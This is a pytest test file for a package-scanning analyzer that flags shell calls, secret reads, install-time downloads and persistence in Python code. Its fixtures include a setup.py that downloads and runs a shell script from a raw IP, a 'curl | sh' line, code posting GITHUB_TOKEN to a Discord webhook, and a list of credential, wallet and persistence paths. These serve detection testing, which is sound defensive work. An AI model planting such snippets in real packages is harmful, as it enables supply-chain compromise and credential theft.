"""The analyzer's capability, install-time and import-time detectors, diff keys, and
hostile input. Snippets are strings; nothing is executed."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.analysis.python_code import analyze_python
from bot.analysis.types import FileRole, SourceFile
from bot.model import AlertType, Finding, Severity
from tests.analysis.snippets import analyze, findings, keys, rows

INSTALL = FileRole.INSTALL_TIME
INIT = FileRole.PACKAGE_INIT


def test_finding_fields_are_complete() -> None:
    [finding] = findings("import os\n\n\nos.system(\n    'make'\n)\n")
    assert finding == Finding(
        type=AlertType.SHELL,
        severity=Severity.HIGH,
        file="pkg/mod.py",
        line=4,
        evidence="os.system(\n'make'\n)",
        reason="Starts a shell command with os.system.",
        api="os.system",
        normalized="make",
        artifact="pkg-1.0.tar.gz",
    )


def test_evidence_is_capped_at_three_lines_of_200_chars() -> None:
    arg = "x" * 300
    [finding] = findings(f"import os\nos.system(\n'{arg}',\n1,\n2,\n)\n")
    lines = finding.evidence.split("\n")
    assert len(lines) == 3
    assert len(lines[1]) == 200
    assert lines[1].endswith("…")


def test_capabilities_across_the_taxonomy() -> None:
    source = """\
    import socket, ctypes, pyperclip, urllib.request
    from PIL import ImageGrab
    import winreg, pickle, marshal
    socket.create_connection(("example.org", 80))
    urllib.request.urlopen("https://example.org/x")
    ctypes.CDLL("libc.so.6")
    pyperclip.paste()
    ImageGrab.grab()
    winreg.SetValueEx(key, "x", 0, 1, "y")
    pickle.loads(blob)
    marshal.loads(blob)
    """
    assert rows(source) == [
        ("network", "socket.create_connection", 4,
         "Opens a network socket with socket.create_connection."),
        ("network", "urllib.request.urlopen", 5,
         "Makes an HTTP request with urllib.request.urlopen."),
        ("native-code", "ctypes.CDLL", 6, "Loads a native library with ctypes.CDLL."),
        ("system-hooks", "pyperclip.paste", 7,
         "Reads or writes the clipboard with pyperclip.paste."),
        ("system-hooks", "PIL.ImageGrab.grab", 8,
         "Takes a screenshot or records camera or microphone with PIL.ImageGrab.grab."),
        ("system-hooks", "winreg.SetValueEx", 9,
         "Changes the Windows registry with winreg.SetValueEx."),
        ("dynamic-code", "pickle.loads", 10,
         "Deserializes code or objects that can run code with pickle.loads."),
        ("dynamic-code", "marshal.loads", 11,
         "Deserializes code or objects that can run code with marshal.loads."),
    ]


def test_dynamic_code_levels() -> None:
    source = """\
    import importlib
    exec("x = 1")
    eval(expression)
    importlib.import_module("json")
    importlib.import_module(name)
    __import__(plugin)
    """
    assert [(f.type.value, f.severity, f.api, f.line, f.reason) for f in findings(source)] == [
        ("dynamic-code", Severity.LOW, "builtins.exec", 2,
         "Runs a constant string as code with exec."),
        ("dynamic-code", Severity.MEDIUM, "builtins.eval", 3,
         "Runs dynamically built code with eval."),
        ("dynamic-code", Severity.MEDIUM, "importlib.import_module", 5,
         "Imports a module whose name is computed at run time with importlib.import_module."),
        ("dynamic-code", Severity.MEDIUM, "builtins.__import__", 6,
         "Imports a module whose name is computed at run time with builtins.__import__."),
    ]


def test_file_writes_only_in_write_modes() -> None:
    source = """\
    import io, os, shutil, pathlib
    open("a.txt").read()
    open("a.txt", "rb").read()
    open("b.txt", "w").write("x")
    io.open("c.txt", mode="a")
    os.open("d", os.O_WRONLY | os.O_CREAT)
    os.open("e", os.O_RDONLY)
    shutil.rmtree(build_dir)
    pathlib.Path("f").write_text("x")
    out_path.write_bytes(b"x")
    """
    assert rows(source) == [
        ("filesystem-write", "builtins.open", 4, "Writes a file with open."),
        ("filesystem-write", "io.open", 5, "Writes a file with io.open."),
        ("filesystem-write", "os.open", 6, "Writes a file with os.open."),
        ("filesystem-write", "shutil.rmtree", 8, "Deletes or changes files with shutil.rmtree."),
        ("filesystem-write", "pathlib.Path.write_text", 9,
         "Deletes or changes files with pathlib.Path.write_text."),
        ("filesystem-write", "pathlib.Path.write_bytes", 10,
         "Writes a file with Path.write_bytes."),
    ]


def test_environment_reads() -> None:
    source = """\
    import os
    from os import environ, getenv
    home = os.environ["HOME"]
    debug = os.getenv("DEBUG")
    token = os.environ["GITHUB_TOKEN"]
    key = environ.get("AWS_SECRET_ACCESS_KEY")
    pw = getenv("DB_PASSWORD", "")
    dumped = dict(os.environ)
    env = os.environ.copy()
    for name in os.environ:
        pass
    leaked = {k: v for k, v in os.environ.items()}
    subprocess_env = {"env": os.environ}
    """
    assert rows(source) == [
        ("env-secrets", "os.environ[GITHUB_TOKEN]", 5,
         "Reads the GITHUB_TOKEN environment variable."),
        ("env-secrets", "os.environ[AWS_SECRET_ACCESS_KEY]", 6,
         "Reads the AWS_SECRET_ACCESS_KEY environment variable."),
        ("env-secrets", "os.environ[DB_PASSWORD]", 7,
         "Reads the DB_PASSWORD environment variable."),
        ("env-secrets", "os.environ", 8, "Copies the whole environment, secrets included."),
        ("env-secrets", "os.environ.copy", 9,
         "Copies the whole environment with os.environ.copy."),
        ("env-secrets", "os.environ", 10,
         "Iterates over every environment variable, secrets included."),
        ("env-secrets", "os.environ.items", 12,
         "Copies the whole environment with os.environ.items."),
    ]


def test_sensitive_paths_and_persistence() -> None:
    source = """\
    import os, win32crypt
    key = os.path.expanduser("~/.ssh/id_rsa")
    creds = open(os.path.join(home, ".aws/credentials")).read()
    db = local + r"\\Google\\Chrome\\User Data\\Default\\Login Data"
    win32crypt.CryptUnprotectData(blob)
    agent = "~/Library/LaunchAgents/com.evil.plist"
    """
    assert rows(source) == [
        ("sensitive-read", "path:~/.ssh", 2, "Reads SSH keys (~/.ssh/id_rsa)."),
        ("sensitive-read", "path:~/.aws/credentials", 3,
         "Reads AWS credentials (.aws/credentials)."),
        ("sensitive-read", "path:browser:chromium", 4,
         "Reads browser passwords or cookies "
         "(\\Google\\Chrome\\User Data\\Default\\Login Data)."),
        ("sensitive-read", "win32crypt.CryptUnprotectData", 5,
         "Decrypts stored Windows credentials with win32crypt.CryptUnprotectData."),
        ("system-hooks", "path:persistence:launchd", 6,
         "Refers to launchd agents (~/Library/LaunchAgents/com.evil.plist)."),
    ]


def test_docstrings_are_not_scanned() -> None:
    source = '''\
    """Reads ~/.ssh/config like OpenSSH; see https://pastebin.com/raw/abc."""
    def f():
        """Never touches ~/.aws/credentials."""
    '''
    assert rows(source) == []


# --- install time -------------------------------------------------------------------------

BENIGN_SETUP = '''\
import io
import os
import re
import sys
from setuptools import find_packages, setup

here = os.path.abspath(os.path.dirname(__file__))
with io.open(os.path.join(here, "README.md"), encoding="utf-8") as f:
    long_description = f.read()

def read_version():
    with open(os.path.join(here, "pkg", "__init__.py")) as f:
        return re.search(r"__version__ = '(.*)'", f.read()).group(1)

if sys.version_info < (3, 8):
    sys.exit("Python 3.8+ required")

setup(
    name="pkg",
    version=read_version(),
    long_description=long_description,
    packages=find_packages(exclude=["tests"]),
    install_requires=["requests>=2"],
)
'''


def test_realistic_setup_py_is_quiet() -> None:
    assert rows(BENIGN_SETUP, INSTALL) == []


def test_setup_py_with_shell_and_download_blocks() -> None:
    source = BENIGN_SETUP + """\
import os, urllib.request
urllib.request.urlretrieve("http://45.77.10.3/x.sh", "/tmp/x.sh")
os.system("sh /tmp/x.sh")
"""
    assert [(f.type.value, f.severity, f.api, f.line, f.reason)
            for f in findings(source, INSTALL)] == [
        ("install-script", Severity.MEDIUM, "setup:urllib.request.urlretrieve", 26,
         "Calls urllib.request.urlretrieve from code that runs when the package is installed."),
        ("install-time-payload", Severity.CRITICAL, "urllib.request.urlretrieve", 26,
         "Makes an HTTP request with urllib.request.urlretrieve while the package is "
         "installed."),
        ("suspicious-url", Severity.HIGH, "url:45.77.10.3", 26,
         "Refers to a raw IP address (45.77.10.3)."),
        ("install-script", Severity.MEDIUM, "setup:os.system", 27,
         "Calls os.system from code that runs when the package is installed."),
        ("install-process", Severity.LOW, "os.system", 27,
         "Starts a shell command with os.system while the package is installed."),
        ("download-exec", Severity.CRITICAL, "os.system", 27,
         "Downloads `http://45.77.10.3/x.sh` (setup.py:26), writes it to `/tmp/x.sh` "
         "(setup.py:26) and runs it with `os.system` (setup.py:27)."),
    ]


def test_cmdclass_override_is_an_install_script() -> None:
    source = """\
    from setuptools import setup
    from setuptools.command.install import install
    from setuptools.command.build_ext import build_ext

    class PostInstall(install):
        def run(self):
            install.run(self)
            notify_home()

    class Quiet(install):
        def run(self):
            install.run(self)

    class BuildExt(build_ext):
        def run(self):
            self.compiler_flags()

    setup(cmdclass={"install": PostInstall, "build_ext": BuildExt})
    """
    assert rows(source, INSTALL) == [
        ("install-script", "cmdclass:install", 6,
         "Overrides the install command with custom code that runs when the package is "
         "installed."),
    ]


def test_install_time_mapping_is_role_dependent() -> None:
    source = "import subprocess\nsubprocess.check_call(['git', 'describe'])\n"
    assert rows(source, FileRole.MODULE) == [
        ("shell", "subprocess.check_call", 2, "Starts a process with subprocess.check_call.")
    ]
    assert rows(source, INSTALL) == [
        ("install-script", "setup:subprocess.check_call", 2,
         "Calls subprocess.check_call from code that runs when the package is installed."),
        ("install-process", "subprocess.check_call", 2,
         "Starts a process with subprocess.check_call while the package is installed."),
    ]


# --- import time ----------------------------------------------------------------------------

def test_import_time_side_effects_only_at_top_level() -> None:
    source = """\
    import requests, subprocess
    try:
        requests.post("https://example.org/ping", data={"id": 1})
    except Exception:
        pass
    class Loader:
        subprocess.run(["whoami"])
    def later():
        subprocess.run(["git", "status"])
    """
    assert rows(source, INIT) == [
        ("network", "requests.post", 3, "Makes an HTTP request with requests.post."),
        ("import-time-side-effect", "requests.post", 3,
         "Makes an HTTP request with requests.post when the package is imported."),
        ("shell", "subprocess.run", 7, "Starts a process with subprocess.run."),
        ("import-time-side-effect", "subprocess.run", 7,
         "Starts a process with subprocess.run when the package is imported."),
        ("shell", "subprocess.run", 9, "Starts a process with subprocess.run."),
    ]


def test_requests_like_module_reports_only_network() -> None:
    source = '''\
    """A small HTTP helper."""
    import json
    import requests

    API = "https://api.github.com/repos/{owner}/{repo}"

    def fetch(owner: str, repo: str) -> dict:
        response = requests.get(API.format(owner=owner, repo=repo), timeout=10)
        response.raise_for_status()
        return json.loads(response.text)
    '''
    assert rows(source) == [
        ("network", "requests.get", 8, "Makes an HTTP request with requests.get.")
    ]


# --- diff keys ----------------------------------------------------------------------------

def test_key_survives_moves_and_reformatting() -> None:
    before = "import subprocess\nsubprocess.run(['git', 'status'])\n"
    after = """\
    import os
    import subprocess


    def helper():
        return 1


    subprocess.run(
        [
            "git",
            "status",
            "--porcelain",
        ],
        check=True,
    )
    """
    assert keys(before) == keys(after) == {("shell", "subprocess.run", "git")}


def test_key_changes_for_a_new_program_or_capability() -> None:
    before = keys("import subprocess\nsubprocess.run(['git', 'status'])\n")
    after = keys("import subprocess\nsubprocess.run(['git', 'status'])\n"
                 "subprocess.run(['curl', evil])\nsubprocess.run(cmd)\n")
    assert after - before == {("shell", "subprocess.run", "curl"), ("shell", "subprocess.run", "*")}


def test_network_key_uses_the_host() -> None:
    assert keys("import requests\nrequests.get('https://example.org/a?x=1')\n") == keys(
        "import requests\n\nrequests.get(  'https://example.org/b'  )\n"
    ) == {("network", "requests.get", "example.org")}


# --- hostile input ------------------------------------------------------------------------

def test_python2_file_falls_back_to_text_search() -> None:
    source = b"import os, urllib2\nprint 'hi'\nos.system('id')\nexec base64.b64decode(p)\n"
    result = analyze(source)
    assert result.parsed is False
    assert [(f.type.value, f.api, f.line) for f in result.findings] == [
        ("network", "import:urllib2", 1),
        ("shell", "os.system", 3),
        ("obfuscated-exec", "builtins.exec", 4),
    ]


def test_null_bytes_fall_back() -> None:
    result = analyze(b"import subprocess\x00\nsubprocess.Popen(['sh'])\n")
    assert result.parsed is False
    assert [(f.type.value, f.api, f.line) for f in result.findings] == [
        ("shell", "import:subprocess", 1),
        ("shell", "subprocess.Popen", 2),
    ]


@pytest.mark.parametrize(
    "source",
    [
        b"x = " + b"(" * 10_000 + b"1" + b")" * 10_000 + b"\nimport os\nos.system('a')\n",
        b"x = " + b"[" * 10_000 + b"]" * 10_000 + b"\nimport os\nos.system('a')\n",
        b"".join(b" " * i + b"if x:\n" for i in range(3000)) + b" " * 3000 + b"import os\n",
        b"import os\nx = " + b"1 + " * 200_000 + b"os.system('a')\n",
    ],
    ids=["parens", "brackets", "ifs", "long-binop"],
)
def test_deep_nesting_never_crashes(source: bytes) -> None:
    result = analyze(source)
    assert all(isinstance(f, Finding) for f in result.findings)
    if not result.parsed:
        assert result.findings or result.incomplete_reason


def test_invalid_utf8_is_replaced() -> None:
    result = analyze(b"import os\nname = '\xff\xfe'\nos.system('id')\n")
    assert result.incomplete_reason == "undecodable bytes were replaced"
    assert [(f.type.value, f.api, f.line) for f in result.findings] == [
        ("shell", "os.system", 3)
    ]


def test_latin1_with_coding_cookie() -> None:
    source = "# -*- coding: latin-1 -*-\nimport os\nname = 'café'\nos.system('id')\n"
    result = analyze(source.encode("latin-1"))
    assert result.parsed is True
    assert result.incomplete_reason is None
    assert [(f.type.value, f.api, f.line) for f in result.findings] == [
        ("shell", "os.system", 4)
    ]


def test_bogus_coding_cookie() -> None:
    result = analyze(b"# coding: no-such-codec\nimport os\nos.system('id')\n")
    assert [(f.type.value, f.api, f.line) for f in result.findings] == [
        ("shell", "os.system", 3)
    ]


def test_six_megabyte_file_uses_text_search_only() -> None:
    filler = b"x = 1\n" * (6 * 1024 * 1024 // 6)
    started = time.perf_counter()
    result = analyze(filler + b"import os\nos.system('id')\n")
    assert time.perf_counter() - started < 10
    assert result.parsed is False
    assert result.incomplete_reason == (
        "file is larger than 5 MB: scanned with the text search only"
    )
    assert [(f.type.value, f.api) for f in result.findings] == [("shell", "os.system")]


def test_single_100kb_line() -> None:
    line = "x = [" + ", ".join(["1"] * 33_000) + "]\n"
    started = time.perf_counter()
    result = analyze(line)
    assert time.perf_counter() - started < 10
    assert result.findings == ()
    packed = "import os;" + ";".join(["a=1"] * 30_000) + "\n"
    assert [(f.type.value, f.api, f.line) for f in analyze(packed).findings] == [
        ("obfuscated-code", "long-line", 1)
    ]


def test_files_without_risky_words_are_not_parsed() -> None:
    result = analyze_python(SourceFile(path="a.py", data=b"def add(a, b):\n    return a + b\n",
                                       role=FileRole.MODULE, artifact="a.whl"))
    assert result.findings == ()
    assert result.parsed is True


def test_not_installed_files_are_marked() -> None:
    [finding] = findings("import os\nos.system('id')\n", FileRole.NOT_INSTALLED)
    assert finding.not_installed is True


def test_version_exec_idiom_in_setup_py_is_low() -> None:
    source = """\
    import os
    from setuptools import setup
    about = {}
    exec(open(os.path.join(here, "pkg", "__version__.py")).read(), about)
    exec(compile(open("pkg/version.py").read(), "version.py", "exec"))
    setup(version=about["__version__"])
    """
    assert [(f.type.value, f.severity, f.api, f.line, f.normalized, f.reason)
            for f in findings(source, INSTALL)] == [
        ("dynamic-code", Severity.LOW, "builtins.exec", 4, "local-file",
         "Runs code read from the local file __version__.py with exec."),
        ("dynamic-code", Severity.LOW, "builtins.exec", 5, "local-file",
         "Runs code read from the local file pkg/version.py with exec."),
        ("dynamic-code", Severity.LOW, "builtins.compile", 5, "local-file",
         "Runs code read from the local file pkg/version.py with compile."),
    ]


def test_python2_setup_py_still_maps_to_install_time_payload() -> None:
    source = b"import os\nprint 'installing'\nos.system('curl http://x | sh')\n"
    result = analyze(source, INSTALL)
    assert result.parsed is False
    assert [(f.type.value, f.severity, f.api, f.line, f.reason) for f in result.findings] == [
        ("install-time-payload", Severity.CRITICAL, "os.system", 3,
         "Starts a shell command with os.system while the package is installed."),
    ]


def test_import_time_file_write() -> None:
    source = "import os\nif not os.path.exists(MARK):\n    open(MARK, 'w').close()\n"
    assert rows(source, INIT) == [
        ("filesystem-write", "builtins.open", 3, "Writes a file with open."),
        ("import-time-side-effect", "builtins.open", 3,
         "Writes a file with open when the package is imported."),
    ]


def test_crlf_and_form_feed_keep_line_numbers() -> None:
    source = b"import os\r\n\x0c\r\nx = 1\r\nos.system('a')\r\n"
    [finding] = findings(source)
    assert (finding.line, finding.evidence) == (4, "os.system('a')")


def test_findings_are_capped() -> None:
    source = "import os\n" + "".join(f"os.system('cmd{i}')\n" for i in range(1100))
    result = analyze(source)
    assert len(result.findings) == 1000
    assert result.incomplete_reason == "more than 1000 findings: the rest were dropped"


@given(st.binary(max_size=400))
@settings(max_examples=150, deadline=None)
def test_arbitrary_bytes_never_crash(data: bytes) -> None:
    for role in (FileRole.MODULE, INSTALL):
        result = analyze(b"import os\n" + data, role)
        assert all(f.type in AlertType for f in result.findings)


@given(st.text(alphabet=st.sampled_from(list("()[]{}'\"\\ \n#:=+-*.,;abcxos\u202e\u200b")),
               max_size=300))
@settings(max_examples=150, deadline=None)
def test_arbitrary_punctuation_never_crashes(text: str) -> None:
    analyze("import os, base64\n" + text)


def test_every_path_rule_has_a_keyword() -> None:
    from bot.analysis.sensitive import PATH_RULES, match_paths

    samples = {
        "~/.ssh": "/home/u/.ssh/id_rsa", "~/.aws/credentials": "~/.aws/credentials",
        "~/.config/gcloud": "~/.config/gcloud/x", "~/.azure": "~/.azure/t",
        "~/.kube/config": "~/.kube/config", "~/.docker/config.json": "~/.docker/config.json",
        "~/.npmrc": "~/.npmrc", "~/.pypirc": "~/.pypirc", "~/.netrc": "~/.netrc",
        "~/.git-credentials": "~/.git-credentials", "~/.gnupg": "~/.gnupg/",
        "~/.pgpass": "~/.pgpass", "game-session": "~/.lunarclient/x",
        "browser:chromium": "Google\\Chrome\\User Data",
        "browser:firefox": "logins.json",
        "wallet": "wallet.dat", "discord-token": "discord\\Local Storage\\leveldb",
        "telegram": "Telegram Desktop\\tdata", "/etc/passwd": "/etc/shadow",
        "keychain": "~/Library/Keychains/login.keychain-db",
        "persistence:cron": "/etc/cron.d/x", "persistence:systemd": "/etc/systemd/system/x",
        "persistence:launchd": "Library/LaunchDaemons/x",
        "persistence:startup-folder": "Start Menu\\Programs\\Startup",
        "persistence:run-key": "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "persistence:init": "/etc/rc.local", "persistence:shell-rc": "~/.bashrc",
        "persistence:autostart": "~/.config/autostart/agent.desktop",
    }
    assert set(samples) == {rule[0] for rule in PATH_RULES}
    for label, text in samples.items():
        assert label in [rule[0] for rule in match_paths(text)], label


def test_names_bound_to_constants_are_folded() -> None:
    source = """\
    import os, requests, subprocess
    HOOK = "https://discord.com/api/webhooks/1/x"
    VAR = "GITHUB_" + "TOKEN"
    def send():
        requests.post(HOOK, json={"t": os.environ[VAR]})
    CMD = "curl"
    CMD += " -s"
    subprocess.run(CMD, shell=True)
    """
    assert [(f.type.value, f.api, f.line, f.normalized, f.reason) for f in findings(source)] == [
        ("suspicious-url", "url:discord.com/api/webhooks", 2, "webhook endpoint",
         "Refers to a webhook endpoint (discord.com/api/webhooks)."),
        ("network", "requests.post", 5, "discord.com", "Makes an HTTP request with requests.post."),
        ("env-secrets", "os.environ[GITHUB_TOKEN]", 5, "",
         "Reads the GITHUB_TOKEN environment variable."),
        ("shell", "subprocess.run", 8, "*",
         "Starts a shell command with subprocess.run(shell=True)."),
        ("exfiltration", "exfiltration:requests.post", 5, "secret",
         "Reads the secret `GITHUB_TOKEN` from the environment (pkg/mod.py:5) and sends it to "
         "a webhook endpoint (`https://discord.com/api/webhooks/1/x`) with `requests.post` "
         "(pkg/mod.py:5)."),
    ]


def test_persistence_commands_are_system_hooks() -> None:
    source = "import subprocess\nsubprocess.call(['schtasks', '/create', '/tn', 'u'])\n"
    assert rows(source) == [
        ("shell", "subprocess.call", 2, "Starts a process with subprocess.call."),
        ("system-hooks", "command:schtasks", 2,
         "Installs a scheduled or startup task by running schtasks."),
        ("persistence", "persistence:command", 2,
         "Registers a start-up task with `subprocess.call` (`schtasks /create /tn u`) "
         "(pkg/mod.py:2)."),
    ]
